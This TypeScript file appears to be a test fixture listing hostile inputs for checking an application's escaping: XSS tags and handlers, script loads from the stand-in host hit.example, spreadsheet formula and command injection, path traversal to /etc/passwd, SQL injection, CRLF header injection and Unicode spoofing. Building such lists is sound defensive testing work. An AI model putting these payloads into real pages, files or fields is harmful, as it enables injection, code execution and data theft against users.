/** What each of these would do if it ever ran. */
const deed = 'hit()';

const elements = [
  `<script>${deed}</script>`,
  `<script src=//hit.example></script>`,
  `<img src=x onerror=${deed}>`,
  `<img src=//hit.example/a.png>`,
  `<svg onload=${deed}>`,
  `<svg><script>${deed}</script></svg>`,
  `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
  `<iframe src="javascript:${deed}"></iframe>`,
  `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  `<object data="javascript:${deed}"></object>`,
  `<embed src="javascript:${deed}">`,
  `<a href="javascript:${deed}">key</a>`,
  `<a href="data:text/html,<script>${deed}</script>">key</a>`,
  `<form action="javascript:${deed}"><button>key</button></form>`,
  `<button formaction="javascript:${deed}">key</button>`,
  `<input autofocus onfocus=${deed}>`,
  `<select autofocus onfocus=${deed}>`,
  `<details open ontoggle=${deed}>`,
  `<video><source onerror=${deed}></video>`,
  `<audio src=x onerror=${deed}>`,
  `<body onload=${deed}>`,
  `<link rel=stylesheet href=//hit.example/a.css>`,
  `<style>@import '//hit.example/a.css'</style>`,
  `<style>*{background:url(//hit.example/a.png)}</style>`,
  `<meta http-equiv=refresh content="0;url=//hit.example">`,
  `<base href=//hit.example/>`,
  `<math><mtext><style><img src=x onerror=${deed}></style></mtext></math>`,
  `<template><script>${deed}</script></template>`,
  `<marquee onstart=${deed}>key</marquee>`,
  `<table background=//hit.example/a.png>`,
  `<dialog open><img src=x onerror=${deed}></dialog>`,
  `<p style="width:expression(${deed})" onmouseover=${deed}>key</p>`,
] as const;

/** Ways out of the place that a text stands in. */
const breakouts = [
  '',
  '"',
  "'",
  '`',
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</style>',
  '</textarea>',
];

const templates = [
  ...['${hit()}', '{{hit()}}', '#{hit()}', '<%= hit() %>', '[[hit()]]', '@hit()', '?>hit()<?'],
  ...['javascript:hit()', ' javascript:hit()', 'java\nscript:hit()', 'JaVaScRiPt:hit()//'],
  ...['data:text/html,<script>hit()</script>', 'vbscript:hit()', 'file:///etc/passwd'],
  ...['http://hit.example', 'https://hit.example/<script>', '//hit.example', 'blob:hit'],
];

const formulas = [
  '=HYPERLINK("javascript:hit()","key")',
  '=HYPERLINK("http://hit.example","key")',
  '=WEBSERVICE("http://hit.example")',
  '=IMPORTXML("http://hit.example","//a")',
  '=IMAGE("http://hit.example/a.png")',
  '=CALL("kernel","hit")',
  '=EVALUATE("hit()")',
  '=INDIRECT("hit")',
  "=cmd|' /C hit'!A0",
  '@SUM(1+1)*cmd|hit',
  '+cmd|hit!A0',
  '-2+3+cmd|hit!A0',
  '\t=1+1',
  '\r=1+1',
  '=1+1\u0000',
  '==1+1',
];

const names = [
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'valueOf',
    '__defineGetter__',
  ],
  ...[
    '../../etc/passwd',
    '..\\..\\hit',
    'C:\\hit',
    '/dev/null',
    'CON',
    'nul.txt',
    'a/b',
    'a\\b',
    'hit\u0000.txt',
  ],
  ...[
    "'; DROP TABLE books; --",
    '" OR 1=1 --',
    '$(hit)',
    '`hit`',
    '| hit',
    '&& hit',
    '%0d%0aSet-Cookie: hit=1',
  ],
];

const letters = [
  'key\u202Eedis', // written backwards from here on
  '\u2066key\u2069',
  'k\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301ey',
  '\uD800',
  '\uDC00key',
  '\uFEFFkey',
  '\u200B\u200C\u200D',
  '\u0000\u0001\u0007\u001B[31m',
  '\u2028hit()\u2029',
  '＜script＞hit()＜/script＞',
  '\u00ADkey',
  '𝐤𝐞𝐲',
  '👩‍👩‍👧‍👦'.repeat(20),
  'ﷺ'.repeat(50),
  '&lt;img src=x onerror=hit()&gt;',
  '&#60;script&#62;hit()&#60;/script&#62;',
  '%3Cscript%3Ehit()%3C/script%3E',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
];

/** Texts that would become markup, a script, a request or another thing's name wherever one is careless. */
export const attacks: readonly string[] = [
  ...elements,
  ...breakouts
    .slice(1)
    .flatMap((out) =>
      [0, 2, 4, 7, 11, 15, 17, 21, 24, 28].map((at) => `${out}${elements[at] ?? ''}`),
    ),
  ...templates,
  ...formulas,
  ...names,
  ...letters,
];
